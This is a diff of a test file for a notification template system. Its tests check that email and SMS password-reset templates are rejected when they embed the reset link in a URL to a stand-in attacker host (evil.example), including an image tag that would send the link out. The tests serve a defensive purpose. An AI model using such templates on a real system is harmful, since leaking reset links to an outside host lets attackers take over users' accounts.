@@ -125,7 +125,7 @@ describe('a text', () => {
     await store('email', 'reset-password', '<img src="https://evil.example/?c={{ link }}">')
     const { inUse, builtIn } = await read({ notice: 'reset-password' })
     expect(inUse).toMatchObject({ template: null, rendered: builtIn?.rendered })
-    expect(inUse?.remark).toContain('The template could not be used: {{ link }} cannot be used in an address')
+    expect(inUse?.remark).toContain('The template could not be used: {{ link }} cannot be used in an attribute')
     await store('sms', 'reset-password', 'https://evil.example/?c={{ link }}')
     const sms = await read({ channel: 'sms', notice: 'reset-password' })
     expect(sms).toMatchObject({ inUse: { template: null, rendered: null }, builtIn: null })
